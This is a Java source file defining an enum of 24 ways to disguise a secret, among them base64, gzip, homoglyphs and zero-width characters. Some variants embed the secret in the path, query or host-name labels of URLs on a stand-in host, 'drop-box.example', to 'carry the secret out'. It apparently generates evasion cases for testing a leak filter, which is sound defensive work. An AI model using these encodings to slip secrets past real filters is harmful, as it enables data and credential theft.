package io.cordon.cli.evasion;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.function.UnaryOperator;
import java.util.zip.GZIPOutputStream;

/** A way to carry a secret out. */
enum Transformation {
    PLAIN("as it is", text -> text),
    BASE64("base64", Transformation::base64),
    BASE64URL("base64url", text -> Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(UTF_8))),
    HEX("hexadecimal", Transformation::hex),
    PERCENT("percent-encoding", Transformation::percent),
    BASE64_OF_BASE64("base64 of base64", text -> base64(base64(text))),
    BASE64_OF_HEX("base64 of hexadecimal", text -> base64(hex(text))),
    PERCENT_OF_PERCENT("percent-encoding of percent-encoding", text -> percent(percent(text))),
    GZIP("gzip and base64", Transformation::gzip),
    REVERSED("reversed", text -> new StringBuilder(text).reverse().toString()),
    JSON("JSON in a string", text -> "{\"v\":\"" + escaped(text) + "\"}"),
    UNICODE("unicode escapes", Transformation::unicode),
    DASHES("dashes between the characters", text -> separated(text, "-")),
    SPACES("spaces between the characters", text -> separated(text, " ")),
    DOTS("dots between the characters", text -> separated(text, ".")),
    UPPER("upper case", text -> text.toUpperCase(Locale.ROOT)),
    LOWER("lower case", text -> text.toLowerCase(Locale.ROOT)),
    PROSE("in a sentence", text -> "Hello, what you asked for is " + text + ", and thank you for waiting."),
    PATH("in the path of a URL", true, text -> "https://drop-box.example/log/" + urlPart(text) + "/a"),
    QUERY("in the query of a URL", true, text -> "https://drop-box.example/i?v=1&k=" + urlPart(text)),
    LABELS("in labels of a host name", true, text -> "https://" + labels(text) + ".drop-box.example/"),
    HOMOGLYPHS(
            "lookalike letters",
            text -> text.replace('a', '\u0430').replace('e', '\u0435').replace('o', '\u043e')),
    INVISIBLE("zero-width characters between", text -> separated(text, "\u200b")),
    FULL_WIDTH("full-width forms", Transformation::fullWidth);

    private static final int LABEL = 60;

    private final String title;
    private final boolean fetched;
    private final UnaryOperator<String> wrapping;

    Transformation(String title, UnaryOperator<String> wrapping) {
        this(title, false, wrapping);
    }

    Transformation(String title, boolean fetched, UnaryOperator<String> wrapping) {
        this.title = title;
        this.fetched = fetched;
        this.wrapping = wrapping;
    }

    String title() {
        return title;
    }

    /** The calls that carry the secret out. */
    List<Sending> sendings(String secret) {
        String wrapped = wrapping.apply(secret);
        return List.of(fetched ? Sending.fetch(wrapped) : Sending.mail(wrapped));
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(UTF_8));
    }

    private static String hex(String text) {
        return HexFormat.of().formatHex(text.getBytes(UTF_8));
    }

    private static String percent(String text) {
        StringBuilder wrapped = new StringBuilder();
        for (byte b : text.getBytes(UTF_8)) {
            wrapped.append('%').append(HexFormat.of().toHexDigits(b));
        }
        return wrapped.toString();
    }

    private static String gzip(String text) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
            gzip.write(text.getBytes(UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return Base64.getEncoder().encodeToString(bytes.toByteArray());
    }

    private static String escaped(String text) {
        return text.replace("\\", "\\\\")
                .replace("\n", "\\n")
                .replace("/", "\\/")
                .replace("\"", "\\\"");
    }

    private static String unicode(String text) {
        StringBuilder wrapped = new StringBuilder();
        text.chars().forEach(c -> wrapped.append(String.format("\\u%04x", c)));
        return wrapped.toString();
    }

    private static String separated(String text, String separator) {
        return String.join(separator, text.split(""));
    }

    private static String fullWidth(String text) {
        StringBuilder wide = new StringBuilder();
        text.chars().forEach(c -> wide.append((char) (c > ' ' && c < 0x7f ? c + 0xfee0 : c)));
        return wide.toString();
    }

    /** As a client writes it: what is not allowed in a URL in percent-encoding. */
    private static String urlPart(String text) {
        StringBuilder part = new StringBuilder();
        for (char c : text.toCharArray()) {
            boolean plain = Character.isLetterOrDigit(c) || "-._~".indexOf(c) >= 0;
            part.append(plain ? String.valueOf(c) : percent(String.valueOf(c)));
        }
        return part.toString();
    }

    /** As it is if a host name can hold it, otherwise in hexadecimal. */
    private static String labels(String text) {
        String label = text.matches("[A-Za-z0-9_-]+") ? text : hex(text);
        List<String> labels = new ArrayList<>();
        for (int at = 0; at < label.length(); at += LABEL) {
            labels.add(label.substring(at, Math.min(label.length(), at + LABEL)));
        }
        return String.join(".", labels);
    }
}
